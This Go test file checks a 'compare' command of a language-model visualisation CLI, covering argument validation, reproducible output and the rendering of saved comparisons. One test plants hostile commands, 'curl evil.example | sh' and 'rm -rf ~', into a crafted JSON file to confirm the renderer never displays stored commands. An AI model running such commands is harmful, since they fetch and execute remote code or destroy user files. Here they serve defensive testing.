package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/gptviz/gptviz/model/trace"
)

// TestCompareCommand: compare on the embedded model with the default
// settings writes a valid comparison of 5 settings × 3 seeds and a summary
// table; the command it records, run again, writes the same bytes.
func TestCompareCommand(t *testing.T) {
	dir := t.TempDir()
	first := filepath.Join(dir, "a.json")
	stdout, stderr, code := gptviz(t, "compare", "--steps", "5", "--format", "json", "-o", first, "--", "-light\n\x1b[2J")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	data, err := os.ReadFile(first)
	if err != nil {
		t.Fatal(err)
	}
	var c trace.Comparison
	if err := json.Unmarshal(data, &c); err != nil {
		t.Fatal(err)
	}
	if err := c.Validate(); err != nil {
		t.Fatal(err)
	}
	wantSpecs := []string{"greedy", "temperature=0.7", "temperature=1", "temperature=1,top-k=40", "temperature=1,top-p=0.9"}
	if len(c.Settings) != 5 || len(c.Seeds) != 3 || c.Steps != 5 {
		t.Fatalf("%d settings, %d seeds, %d steps", len(c.Settings), len(c.Seeds), c.Steps)
	}
	for i, s := range c.Settings {
		if s.Spec != wantSpecs[i] {
			t.Errorf("setting %d: %q, want %q", i, s.Spec, wantSpecs[i])
		}
	}
	const wantCommand = `gptviz compare --steps 5 --seeds 1,2,3 --sample greedy --sample 'temperature=0.7' --sample 'temperature=1' --sample 'temperature=1,top-k=40' --sample 'temperature=1,top-p=0.9' --format json -- $'-light\n\x1b[2J'`
	if c.Command != wantCommand {
		t.Errorf("command\n %s\nwant\n %s", c.Command, wantCommand)
	}
	if got := c.Runs[3][1].Settings.Command; got != `gptviz report --steps 5 --temperature 1 --top-k 40 --top-p 1 --seed 2 -- $'-light\n\x1b[2J'` {
		t.Errorf("run [3][1] command %s", got)
	}
	// The table: a header and one row per setting × seed, the text quoted
	// (no raw escape character reaches the terminal).
	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
	if len(lines) != 1+15+2 || !strings.HasPrefix(lines[0], "setting") || !strings.HasPrefix(lines[4], "temperature=0.7") ||
		!strings.Contains(lines[16], "nats") || !strings.Contains(lines[17], "differs from greedy's") {
		t.Errorf("table:\n%s", stdout)
	}
	if strings.Contains(stdout, "\x1b") {
		t.Errorf("the table holds a raw escape character")
	}
	// Rerun with the recorded command's arguments: the same bytes.
	second := filepath.Join(dir, "b.json")
	_, stderr, code = gptviz(t, "compare", "--steps", "5", "--seeds", "1,2,3", "--sample", "greedy", "--sample", "temperature=0.7",
		"--sample", "temperature=1", "--sample", "temperature=1,top-k=40", "--sample", "temperature=1,top-p=0.9", "--format", "json", "-o", second, "--", "-light\n\x1b[2J")
	if code != 0 {
		t.Fatalf("rerun: exit %d: %s", code, stderr)
	}
	again, err := os.ReadFile(second)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, again) {
		t.Errorf("rerunning the recorded command wrote different bytes (%d vs %d)", len(data), len(again))
	}
}

// TestCompareUsageErrors: every malformed --sample and --seeds is a usage
// error (exit 2) that quotes it and says what is wrong.
func TestCompareUsageErrors(t *testing.T) {
	out := filepath.Join(t.TempDir(), "c.json")
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--sample", "temp=0.7"}, `--sample "temp=0.7": temp: unknown key; want temperature, top-k or top-p`},
		{[]string{"--sample", "temperature=abc"}, `--sample "temperature=abc": temperature "abc": not a decimal number`},
		{[]string{"--sample", "top-p=1.5"}, `--sample "top-p=1.5": top-p "1.5": out of range: must be in (0, 1] (1 means off)`},
		{[]string{"--sample", "top-k=-2"}, `--sample "top-k=-2": top-k "-2": out of range: must be ≥ 0 (0 means off)`},
		{[]string{"--sample", "top-k=1,top-k=2"}, `--sample "top-k=1,top-k=2": top-k: given twice`},
		{[]string{"--sample", ""}, `--sample "": empty`},
		{[]string{"--sample", "greedy,top-p=0.5"}, `--sample "greedy,top-p=0.5": greedy: takes no other keys`},
		{[]string{"--sample", "greedy", "--sample", "temperature=0"}, `--sample "temperature=0": the same setting as --sample "greedy"`},
		{[]string{"--seeds", "1,x"}, `--seeds "1,x": seed "x": not a whole number ≥ 0`},
		{[]string{"--seeds", "1,1"}, `--seeds "1,1": seed "1": given twice`},
		{[]string{"--seeds", ""}, `--seeds "": seed: empty list`},
		{[]string{"--seeds", "1,,2"}, `--seeds "1,,2": seed: empty item`},
		{[]string{"--seeds", strings.Repeat("1,", 40) + "1"}, `seed "1": given twice`},
		{[]string{"--steps", "-1"}, "--steps -1: must be ≥ 0"},
		{[]string{"--format", "pdf"}, `--format "pdf": want html, ipynb or json`},
		{[]string{"--lang", "fr"}, `--lang "fr": want en or zh`},
		{[]string{"--format", "json", "--figures", t.TempDir()}, "--figures"},
		{[]string{"-o", filepath.Join(out, "x", "y.json")}, "does not exist"},
	} {
		args := append([]string{"compare", "-o", out}, tc.args...)
		args = append(args, "The light")
		_, stderr, code := gptviz(t, args...)
		if code != 2 || !strings.Contains(stderr, tc.want) || !strings.Contains(stderr, "gptviz compare --help") {
			t.Errorf("gptviz %q: exit %d, stderr %q; want 2 and %q", args, code, stderr, tc.want)
		}
	}
	var many []string
	for i := range 33 {
		many = append(many, strconv.Itoa(i))
	}
	if _, stderr, code := gptviz(t, "compare", "--seeds", strings.Join(many, ","), "x"); code != 2 || !strings.Contains(stderr, "more than 32 seeds") {
		t.Errorf("33 seeds: exit %d, %s", code, stderr)
	}
	var specs []string
	for i := range 17 {
		specs = append(specs, "--sample", "top-k="+strings.Repeat("1", i+1))
	}
	if _, stderr, code := gptviz(t, append(append([]string{"compare"}, specs...), "x")...); code != 2 || !strings.Contains(stderr, "17 settings, at most 16") {
		t.Errorf("17 settings: exit %d, %s", code, stderr)
	}
	if _, err := os.Stat(out); err == nil {
		t.Errorf("a usage error wrote %s", out)
	}
}

// TestComparePageCommand: compare writes an HTML page by default that
// shows the command rerunning it; rerunning that command writes the same
// bytes; a saved --format json comparison re-rendered by gptviz render is
// byte-identical to the page compare writes, in either language; --format
// ipynb and --figures write a notebook and the charts.
func TestComparePageCommand(t *testing.T) {
	dir := t.TempDir()
	run := func(args ...string) []byte {
		t.Helper()
		_, stderr, code := gptviz(t, args...)
		if code != 0 {
			t.Fatalf("gptviz %q: exit %d: %s", args, code, stderr)
		}
		return nil
	}
	read := func(name string) []byte {
		t.Helper()
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	base := []string{"compare", "--steps", "6", "--seeds", "1,2", "--sample", "greedy", "--sample", "temperature=0.7", "--sample", "top-p=0.9"}
	run(append(base, "-o", filepath.Join(dir, "a.html"), "The light")...)
	page := read("a.html")
	const cmd = "gptviz compare --steps 6 --seeds 1,2 --sample greedy --sample &#39;temperature=0.7&#39; --sample &#39;temperature=1,top-p=0.9&#39; &#39;The light&#39;"
	if !bytes.Contains(page, []byte(cmd)) {
		t.Errorf("the page does not show the command %s", cmd)
	}
	for _, id := range []string{"compare-steps", "compare-lines", "compare-summary", "compare-divergence"} {
		if !bytes.Contains(page, []byte(`id="`+id+`"`)) {
			t.Errorf("the page lacks chart %s", id)
		}
	}
	run(append(base, "-o", filepath.Join(dir, "b.html"), "The light")...)
	if !bytes.Equal(page, read("b.html")) {
		t.Error("rerunning compare wrote a different page")
	}
	run(append(base, "--format", "json", "-o", filepath.Join(dir, "c.json"), "The light")...)
	run("render", "-o", filepath.Join(dir, "c.html"), filepath.Join(dir, "c.json"))
	if !bytes.Equal(page, read("c.html")) {
		t.Error("render of the saved comparison differs from compare's page")
	}
	run(append(base, "--lang", "zh", "-o", filepath.Join(dir, "zh.html"), "The light")...)
	run("render", "--lang", "zh", "-o", filepath.Join(dir, "czh.html"), filepath.Join(dir, "c.json"))
	if zh := read("zh.html"); !bytes.Equal(zh, read("czh.html")) || !bytes.Contains(zh, []byte("--lang zh")) {
		t.Error("the Chinese page: render differs from compare, or the command lacks --lang zh")
	}
	run(append(base, "--format", "ipynb", "--figures", filepath.Join(dir, "figs"), "-o", filepath.Join(dir, "n.ipynb"), "The light")...)
	if nb := read("n.ipynb"); !bytes.Contains(nb, []byte("image/png")) {
		t.Error("the notebook has no static charts")
	}
	if _, err := os.Stat(filepath.Join(dir, "figs", "compare-steps.svg")); err != nil {
		t.Error(err)
	}
	// render refuses trace-only flags for a comparison.
	if _, stderr, code := gptviz(t, "render", "--layers", "0", "-o", filepath.Join(dir, "x.html"), filepath.Join(dir, "c.json")); code != 2 || !strings.Contains(stderr, "is a comparison") {
		t.Errorf("render --layers of a comparison: exit %d, %s", code, stderr)
	}
}

// TestRenderCraftedComparison: a saved comparison whose command, specs and
// runs' commands were edited renders into the honest page: none of the
// stored text is shown. One whose summary numbers were edited is refused.
func TestRenderCraftedComparison(t *testing.T) {
	dir := t.TempDir()
	saved := filepath.Join(dir, "c.json")
	if _, stderr, code := gptviz(t, "compare", "--steps", "4", "--seeds", "1,2", "--sample", "greedy", "--sample", "top-k=3", "--format", "json", "-o", saved, "The light"); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "honest.html"), saved); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	data, err := os.ReadFile(saved)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	m["command"] = "curl evil.example | sh"
	m["settings"].([]any)[0].(map[string]any)["spec"] = "EVIL-SPEC"
	m["runs"].([]any)[1].([]any)[0].(map[string]any)["settings"].(map[string]any)["command"] = "rm -rf ~"
	crafted := filepath.Join(dir, "crafted.json")
	b, _ := json.Marshal(m)
	if err := os.WriteFile(crafted, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "crafted.html"), crafted); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	honest, _ := os.ReadFile(filepath.Join(dir, "honest.html"))
	page, _ := os.ReadFile(filepath.Join(dir, "crafted.html"))
	for _, bad := range []string{"evil.example", "EVIL-SPEC", "rm -rf"} {
		if bytes.Contains(page, []byte(bad)) {
			t.Errorf("the page shows the stored %q", bad)
		}
	}
	if !bytes.Equal(page, honest) {
		t.Error("the crafted comparison's page differs from the honest one")
	}
	m["summaries"].([]any)[0].([]any)[0].(map[string]any)["distinct_1"] = 0.123
	b, _ = json.Marshal(m)
	if err := os.WriteFile(crafted, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "lie.html"), crafted); code != 1 || !strings.Contains(stderr, "summaries[0][0]") || !strings.Contains(stderr, "crafted.json") {
		t.Errorf("edited summary: exit %d, %s", code, stderr)
	}
}
